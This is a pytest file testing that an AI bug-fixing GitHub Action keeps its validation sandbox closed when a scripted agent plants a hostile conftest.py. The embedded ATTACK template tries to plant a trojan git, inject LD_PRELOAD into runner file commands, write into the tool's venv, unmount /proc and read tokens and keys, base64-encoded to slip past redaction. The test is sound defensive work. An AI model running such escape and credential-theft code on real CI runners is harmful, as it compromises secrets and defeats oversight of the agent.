"""The validation escape, end to end through `fixloop action`: in its first iteration the agent adds a
conftest.py that tries every way out of validation at once; in its second it removes it and fixes
the bug. The session must end validated with one draft pull request, and nothing the conftest tried
may have taken effect: no planted `git` run by fixloop's push, no runner file command written, no
write into fixloop's own environment or the runner's folders, and no token, key, header or private
file read, not even encoded so that the redactor would miss it.

Run as root (CI is), the conftest also unmounts /proc to read fixloop's environment, which works
for a process that keeps its capabilities."""

from __future__ import annotations

import base64
import json
import os
import secrets
import site
from pathlib import Path

import pytest

from bot._git import trusted_git
from bot.sandbox import INSTALL_HINT, bubblewrap
from tests.fakes.messages_api import Reply, bash, edit, text
from tests.test_action_e2e import REPO, parse_outputs

needs_bwrap = pytest.mark.skipif(bubblewrap() is None, reason=f"bubblewrap is not available here: {INSTALL_HINT}")

ATTACK = '''
import base64, os, pathlib, subprocess

notes = []


def attempt(what, action):
    try:
        notes.append(f"{{what}}: {{action()}}")
    except Exception as error:
        notes.append(f"{{what}}: failed: {{type(error).__name__}}: {{error}}")


def write(path, text, mode="w"):
    with open(path, mode) as handle:
        handle.write(text)
    return "written"


def plant_git():
    folder = pathlib.Path({git_folder!r})
    folder.mkdir(parents=True, exist_ok=True)
    write(folder / "git", "#!/bin/sh\\nenv > {leak!r}\\nexec /usr/bin/git \\"$@\\"\\n")
    os.chmod(folder / "git", 0o755)
    return "planted"


def encoded_environments():
    # Encoded, so that no redactor recognises the values on their way out.
    found = []
    for environ in pathlib.Path("/proc").glob("[0-9]*/environ"):
        try:
            variables = environ.read_bytes().split(b"\\0")
        except OSError:
            continue
        found += [base64.b64encode(v).decode() for v in variables if v.split(b"=", 1)[0] in {wanted!r}]
    return found


attempt("plant git", plant_git)
for name in ("GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT", "GITHUB_STATE", "GITHUB_STEP_SUMMARY"):
    attempt(f"{{name}} from the environment", lambda: write(os.environ[name], "LD_PRELOAD=/evil.so\\n", "a"))
for path in {file_commands!r}:
    attempt(f"{{path}} by its path", lambda: write(path, "LD_PRELOAD=/evil.so\\n", "a"))
attempt("fixloop's venv", lambda: write({pth!r}, "# planted by the agent\\n"))
attempt("runner temp", lambda: [os.listdir({runner_temp!r}), open({step_script!r}).read()])
attempt("netrc", lambda: open({netrc!r}).read())
attempt("outside", lambda: [write({outside!r}, "x"), write({tmp_marker!r}, "x")])
attempt("umount /proc", lambda: subprocess.run(["umount", "-l", "/proc"], capture_output=True).returncode)
attempt("environments", encoded_environments)
pathlib.Path(__file__).with_name("stolen.txt").write_text("\\n".join(notes))
'''

FILES = {
    "calc.py": "def add(a, b):\n    return a - b\n",
    "test_calc.py": "from calc import add\n\n\ndef test_add():\n    assert add(2, 3) == 5\n",
}


@pytest.fixture
def scene(tmp_path, fake_github, monkeypatch):
    """A runner as GitHub's images lay it out: a home with credentials and `~/.local/bin` first on PATH,
    $RUNNER_TEMP with a step script and the file commands, distinctive secrets in fixloop's environment."""
    from tests.fakes.messages_api import MessagesAPIServer
    from tests.test_action_e2e import PYTEST, Runner

    home = tmp_path / "runner-home"
    (home / ".local" / "bin").mkdir(parents=True)
    (home / ".netrc").write_text("machine github.com login x password netrc-canary-7c1e\n")
    runner_temp = home / "work" / "_temp"
    commands = runner_temp / "_runner_file_commands"
    commands.mkdir(parents=True)
    step_script = runner_temp / "0f3c-step.sh"
    step_script.write_text("echo runner-temp-canary-51aa\n")
    files = {name: commands / f"{name.lower()}_d41d8" for name in
             ("GITHUB_ENV", "GITHUB_PATH", "GITHUB_STATE", "GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY")}
    for path in files.values():
        path.write_text("")
    leak = tmp_path / "leaked-git-environment"
    token = "ghs_" + secrets.token_hex(18)
    key = "sk-ant-api03-" + secrets.token_hex(20)
    canary = "environ-canary-" + secrets.token_hex(8)
    fake_github.add_token(token)
    marker = f"fixloop-escape-{secrets.token_hex(4)}"
    pth = Path(site.getsitepackages()[0]) / f"{marker}.pth"
    attack = ATTACK.format(
        git_folder=str(home / ".local" / "bin"), leak=str(leak),
        wanted=[b"GITHUB_TOKEN", b"ANTHROPIC_API_KEY", b"ESCAPE_SECRET"],
        file_commands=[str(p) for p in files.values()], pth=str(pth), runner_temp=str(runner_temp),
        step_script=str(step_script), netrc=str(home / ".netrc"), outside=str(home / "marker"),
        tmp_marker=f"/tmp/{marker}")
    monkeypatch.setenv("PATH", f"{home / '.local' / 'bin'}{os.pathsep}{os.environ['PATH']}")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("RUNNER_TEMP", str(runner_temp))
    monkeypatch.setenv("ESCAPE_SECRET", canary)
    trusted_git.cache_clear()  # resolved at start-up, with this runner's PATH
    files_ = {**FILES, ".github/fixloop.yml": f"validate: [{PYTEST}]\nlimits: {{iterations: 3}}\nsandbox: required\n"}
    try:
        with MessagesAPIServer(api_key=key) as api:
            runner = Runner(tmp_path, fake_github, api, monkeypatch, files=files_)
            yield {"runner": runner, "api": api, "home": home, "runner_temp": runner_temp, "files": files, "leak": leak,
                   "token": token, "key": key, "canary": canary, "pth": pth, "tmp_marker": Path(f"/tmp/{marker}"),
                   "attack": attack, "step_script": step_script}
    finally:
        pth.unlink(missing_ok=True)  # only there if the escape worked: it must not outlive the test
        Path(f"/tmp/{marker}").unlink(missing_ok=True)
        trusted_git.cache_clear()


@needs_bwrap
def test_a_conftest_that_tries_every_way_out_changes_nothing_and_the_session_still_validates(scene):
    runner, api = scene["runner"], scene["api"]
    api.push(
        Reply([edit("create", "conftest.py", file_text=scene["attack"])]),
        Reply([text("Added a conftest.")]),
        Reply([edit("view", "stolen.txt"), bash("rm -f conftest.py stolen.txt")]),
        Reply([edit("str_replace", "calc.py", old_str="a - b", new_str="a + b")]),
        Reply([text("add() subtracted; it now adds.")]),
    )
    env = {name: str(path) for name, path in scene["files"].items()}
    status = runner.run("issues", runner.labeled(), GITHUB_TOKEN=scene["token"], ANTHROPIC_API_KEY=scene["key"], **env)
    assert status == 0

    # No planted git ran, none is left, and nothing was written outside the worktree and the scratch folder.
    assert not scene["leak"].exists() and not (scene["home"] / ".local" / "bin" / "git").exists()
    assert not scene["pth"].exists() and not scene["tmp_marker"].exists() and not (scene["home"] / "marker").exists()
    assert sorted(p.name for p in scene["runner_temp"].iterdir()) == ["0f3c-step.sh", "_runner_file_commands"]
    for name, path in scene["files"].items():
        assert "LD_PRELOAD" not in path.read_text(), name  # fixloop's own outputs and summary are there, nothing else

    # One draft pull request, with the fix alone.
    (pull,) = runner.github.pulls(REPO)
    assert pull.pull.draft
    assert runner.origin.show(pull.pull.head_ref, "calc.py") == "def add(a, b):\n    return a + b\n"
    session_dir = Path(parse_outputs(scene["files"]["GITHUB_OUTPUT"].read_text())["session-dir"])
    report = json.loads((session_dir / "report.json").read_text())
    assert report["status"] == "validated" and report["changed_files"] == ["calc.py"] and report["confined"] is True

    # The conftest ran, and every attempt failed.
    seen = json.dumps([request.body for request in api.requests])
    assert "plant git: failed" in seen and "fixloop's venv: failed" in seen and "netrc: failed" in seen

    # No secret or private file reached the model, GitHub, the outputs or the session folder, even encoded.
    forbidden = [scene["token"], scene["key"], scene["canary"], "netrc-canary-7c1e", "runner-temp-canary-51aa"]
    forbidden += [base64.b64encode(value.encode()).decode() for value in forbidden[:3]]
    forbidden.append(base64.b64encode(f"x-access-token:{scene['token']}".encode()).decode())
    written = [seen, json.dumps([(r.path, r.json) for r in runner.github.requests])]
    written += [path.read_text(errors="replace") for path in session_dir.rglob("*") if path.is_file()]
    written += [path.read_text() for path in scene["files"].values()]
    for value in forbidden:
        assert not any(value in text for text in written), f"{value[:12]}... leaked"


@pytest.fixture
def no_bubblewrap(monkeypatch):
    import bot.sandbox

    monkeypatch.setattr(bot.sandbox, "bubblewrap", lambda: None)


def _runner(tmp_path, fake_github, api, monkeypatch, config: str):
    from tests.test_action_e2e import PYTEST, Runner

    return Runner(tmp_path, fake_github, api, monkeypatch,
                  files={**FILES, ".github/fixloop.yml": f"validate: [{PYTEST}]\n{config}"})


def test_without_bubblewrap_the_session_says_validation_ran_unconfined(tmp_path, fake_github, monkeypatch,
                                                                        no_bubblewrap):
    from tests.fakes.messages_api import MessagesAPIServer

    with MessagesAPIServer() as api:
        runner = _runner(tmp_path, fake_github, api, monkeypatch, "")
        api.push(Reply([edit("str_replace", "calc.py", old_str="a - b", new_str="a + b")]), Reply([text("Fixed.")]))
        assert runner.run("issues", runner.labeled()) == 0
    report = json.loads((Path(runner.outputs_map()["session-dir"]) / "report.json").read_text())
    assert report["confined"] is False and "bubblewrap is not available" in report["confinement"]
    session_check = next(run for run in fake_github.check_runs(REPO) if run.name == "fixloop")
    assert "ran **unconfined**" in session_check.output_summary


def test_sandbox_required_without_bubblewrap_refuses_to_start(tmp_path, fake_github, monkeypatch, no_bubblewrap,
                                                              capsys):
    from tests.fakes.messages_api import MessagesAPIServer

    with MessagesAPIServer() as api:
        runner = _runner(tmp_path, fake_github, api, monkeypatch, "sandbox: required\n")
        assert runner.run("issues", runner.labeled()) == 2
        assert api.requests == []  # refused before any model call
    assert "::error::`sandbox: required` is set, but bubblewrap is not available" in capsys.readouterr().out
